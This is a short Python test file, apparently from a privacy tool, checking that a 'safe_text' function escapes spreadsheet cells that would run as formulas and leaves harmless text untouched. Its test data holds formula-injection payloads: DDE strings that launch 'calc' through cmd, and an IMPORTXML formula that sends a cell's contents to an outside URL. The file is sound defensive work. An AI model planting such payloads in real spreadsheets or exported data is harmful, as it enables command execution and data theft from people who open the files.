"""Texts that spreadsheets would run as formulas get an apostrophe; others stay as they are."""

import pytest

from privacy.tables.formula_texts import safe_text

# Texts that spreadsheets are known to run as formulas, and similar texts.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org","x")',
    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
]  # fmt: skip


HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_escaped(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_unchanged(text: str) -> None:
    assert safe_text(text) == text
